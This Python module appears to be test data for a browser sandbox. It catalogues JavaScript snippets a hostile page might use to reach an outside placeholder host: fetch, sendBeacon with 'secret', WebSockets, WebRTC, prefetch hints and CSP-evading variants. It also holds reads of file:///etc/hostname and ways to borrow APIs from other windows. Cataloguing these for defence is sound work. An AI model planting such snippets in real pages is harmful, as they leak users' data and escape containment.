"""What a hostile page does to get out, or to get hold of what it may not have."""

from __future__ import annotations

LINK = "const l = document.createElement('link'); l.rel = '{}'; l.href = '{}'; document.head.append(l)"
RULES = """const s = document.createElement('script'); s.type = 'speculationrules';
s.textContent = JSON.stringify({{{}: [{{source: 'list', urls: ['{}'], eagerness: 'immediate'}}]}});
document.head.append(s)"""
POLICY = """const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';
m.content = "default-src 'none'; script-src 'unsafe-inline'"; document.head.append(m);"""

# Each is what a page does when its button is pressed, ADDRESS being one outside. It must be counted at least once.
ROUTES = {
    "navigation": "location.href = 'http://ADDRESS/'",
    "replaced location": "location.replace('http://ADDRESS/')",
    "secure navigation": "location.href = 'https://ADDRESS/'",
    "form": "const f = document.createElement('form'); f.action = 'http://ADDRESS/'; f.method = 'post'; "
    "document.body.append(f); f.submit()",
    "fetch": "fetch('http://ADDRESS/', {mode: 'no-cors'}).catch(() => 0)",
    "secure fetch": "fetch('https://ADDRESS/', {mode: 'no-cors'}).catch(() => 0)",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'http://ADDRESS/'); r.send()",
    "beacon": "navigator.sendBeacon('http://ADDRESS/', 'secret')",
    "image": "new Image().src = 'http://ADDRESS/a.png'",
    "script": "const s = document.createElement('script'); s.src = 'http://ADDRESS/a.js'; document.body.append(s)",
    "style sheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; "
    "l.href = 'http://ADDRESS/a.css'; document.head.append(l)",
    "background": "document.body.style.backgroundImage = 'url(http://ADDRESS/a.png)'",
    "font": "new FontFace('f', 'url(http://ADDRESS/a.woff)').load().catch(() => 0)",
    "video": "const v = document.createElement('video'); v.src = 'http://ADDRESS/a.mp4'; "
    "v.load(); document.body.append(v)",
    "frame": "const i = document.createElement('iframe'); i.src = 'http://ADDRESS/'; document.body.append(i)",
    "object": "const o = document.createElement('object'); o.data = 'http://ADDRESS/'; document.body.append(o)",
    "event source": "new EventSource('http://ADDRESS/')",
    "WebSocket": "new WebSocket('ws://ADDRESS/')",
    "secure WebSocket": "new WebSocket('wss://ADDRESS/')",
    "worker": "new Worker(URL.createObjectURL(new Blob("
    "[\"fetch('http://ADDRESS/', {mode: 'no-cors'}).catch(() => 0)\"])))",
    "imported script": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://ADDRESS/a.js')\"])))",
    "prefetch": LINK.format("prefetch", "http://ADDRESS/"),
    "secure prefetch": LINK.format("prefetch", "https://ADDRESS/"),
    "prefetch by another scheme": LINK.format("prefetch", "ftp://ADDRESS/"),
    "preconnect": LINK.format("preconnect", "http://ADDRESS/"),
    "secure preconnect": LINK.format("preconnect", "https://ADDRESS/"),
    "preconnect in markup": "document.head.innerHTML = '<link rel=\"x preconnect\" href=//ADDRESS>'",
    "preconnect of a moment": LINK.format("preconnect", "//ADDRESS") + "; l.remove()",
    "preconnect set later": LINK.format("x", "//ADDRESS") + "; l.rel = 'preconnect'",
    "look-up of a name": LINK.format("dns-prefetch", "//ADDRESS"),
    "prerendering": LINK.format("prerender", "http://ADDRESS/"),
    "speculation": RULES.format("prefetch", "https://ADDRESS/"),
    "speculative rendering": RULES.format("prerender", "http://ADDRESS/"),
    "module ahead": LINK.format("modulepreload", "http://ADDRESS/a.js"),
    "image ahead": LINK.format("preload", "http://ADDRESS/a.png") + "; l.as = 'image'",
    "ping": "const a = document.createElement('a'); a.href = '#'; a.ping = 'http://ADDRESS/'; document.body.append(a); "
    "a.click()",
    "drawing": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"http://ADDRESS/a.png\" /></svg>')",
    "part of a drawing": "document.body.insertAdjacentHTML('beforeend', "
    "'<svg><use href=\"//ADDRESS/a.svg#a\" /></svg>')",
    "worker from elsewhere": "try { new Worker('http://ADDRESS/a.js') } catch (error) {}",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob("
    "[\"fetch('http://ADDRESS/', {mode: 'no-cors'}).catch(() => 0)\"])))",
    "against its own policy": f"{POLICY} fetch('http://ADDRESS/').catch(() => 0)",
    "image against its own policy": f"{POLICY} new Image().src = 'http://ADDRESS/a.png'",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; "
    "m.content = '0;url=http://ADDRESS/'; document.head.append(m)",
    "redirect": "location.href = '/redirect'",
    "fetched redirect": "fetch('/redirect', {mode: 'no-cors'}).catch(() => 0)",
    "popup": "window.open('http://ADDRESS/')",
    "own popup": "window.open('/')",
    "target": "const a = document.createElement('a'); a.href = 'http://ADDRESS/'; a.target = '_blank'; "
    "document.body.append(a); a.click()",
    "download": "const a = document.createElement('a'); a.href = '/file'; a.download = 'f'; document.body.append(a); "
    "a.click()",
    "attachment": "location.href = '/attachment'",
    "alert": "alert('stop')",
    "confirm": "confirm('stop')",
    "prompt": "prompt('stop')",
    "file": "location.href = 'file:///etc/hostname'",
    "file by link": "const a = document.createElement('a'); a.href = 'file:///etc/hostname'; document.body.append(a); "
    "a.click()",
    "fetched file": "fetch('file:///etc/hostname').catch(() => 0)",
    "file in a frame": "const i = document.createElement('iframe'); i.src = 'file:///etc/hostname'; "
    "document.body.append(i)",
    "chrome": "location.href = 'chrome://version'",
    "view-source": "location.href = 'view-source:file:///etc/hostname'",
    "service worker": "navigator.serviceWorker.register('/worker.js').catch(() => 0)",
    "WebRTC": "try { new RTCPeerConnection({iceServers: [{urls: 'stun:ADDRESS'}]}) } catch (error) {}",
    "WebRTC in a frame": "const i = document.createElement('iframe'); document.body.append(i); "
    "try { new i.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:ADDRESS'}]}) } catch (error) {}",
    "WebRTC against its own policy": f"{POLICY} Image = fetch = null; "
    "try { new RTCPeerConnection() } catch (error) {}",
    "WebTransport": "try { new WebTransport('https://ADDRESS/') } catch (error) {}",
    "mail": "location.href = 'mailto:a@example.org'",
    "mail by link": "const a = document.createElement('a'); a.href = 'mailto:a@example.org'; document.body.append(a); "
    "a.click()",
    "mail by form": "const f = document.createElement('form'); f.action = 'mailto:a@example.org'; "
    "document.body.append(f); f.submit()",
    "mail in a frame": "const i = document.createElement('iframe'); i.src = 'mailto:a@example.org'; "
    "document.body.append(i)",
    "mail by window": "window.open('mailto:a@example.org')",
    "mail by refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; "
    "m.content = '0;url=mailto:a@example.org'; document.head.append(m)",
    "ftp": "location.href = 'ftp://ADDRESS/'",
    "fetched ftp": "fetch('ftp://ADDRESS/').catch(() => 0)",
    "requested ftp": "const r = new XMLHttpRequest(); r.open('GET', 'ftp://ADDRESS/'); r.send()",
    "image by ftp": "new Image().src = 'ftp://ADDRESS/a.png'",
    "telephone": "location.assign('tel:110')",
    "an application": "location.href = 'slack://ADDRESS/'",
    "an application in a frame": "const i = document.createElement('iframe'); i.src = 'x-app:a'; "
    "document.body.append(i)",
    "an application's picture": "document.body.style.backgroundImage = 'url(x-app:a)'",
    "an application's script": "const s = document.createElement('script'); s.src = 'x-app:a'; document.body.append(s)",
    "an application's beacon": "try { navigator.sendBeacon('x-app:a', 'secret') } catch (error) {}",
    "an application by message": "location.href = 'intent://ADDRESS/#Intent;scheme=http;end'",
    "a port that browsers avoid": "location.href = 'http://example.test:25/'",
    "a fetch from such a port": "fetch('http://example.test:6667/').catch(() => 0)",
    "an extension": "location.href = 'chrome-extension://abc/'",
    "WebSocket as a page": "location.href = 'ws://ADDRESS/'",
}

# Where a page might find what its own window lacks; note() is told of it.
WINDOWS = {
    "a window": "const w = open('about:blank'); note(w && w.RTCPeerConnection)",
    "a named window": "const w = open('', 'w'); note(w && w.RTCPeerConnection)",
    "a page of one's own": "const w = open('/'); note(w && w.RTCPeerConnection)",
    "a script in a window": "const a = document.createElement('a'); a.rel = 'opener'; a.target = 'w'; "
    "a.href = 'javascript:opener.note(RTCPeerConnection)'; document.body.append(a); a.click()",
    "a form's window": "const f = document.createElement('form'); f.rel = 'opener'; f.target = 'w'; "
    "f.action = '/window'; document.body.append(f); f.submit()",
    "a frame's window": "const i = document.createElement('iframe'); document.body.append(i); "
    "const w = i.contentWindow.open('about:blank'); note(w && w.RTCPeerConnection)",
    "a frame": "const i = document.createElement('iframe'); document.body.append(i); "
    "note(i.contentWindow.RTCPeerConnection)",
    "a frame of markup": "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); "
    "note(frames[0].RTCPeerConnection)",
    "a frame's own page": "const i = document.createElement('iframe'); i.srcdoc = "
    "'<script>parent.note(RTCPeerConnection)</' + 'script>'; document.body.append(i)",
    "a frame by script": "const i = document.createElement('iframe'); "
    "i.src = 'javascript:parent.note(RTCPeerConnection)'; document.body.append(i)",
    "an object": "const o = document.createElement('object'); o.data = '/window'; document.body.append(o); "
    "note(o.contentWindow && o.contentWindow.RTCPeerConnection)",
}
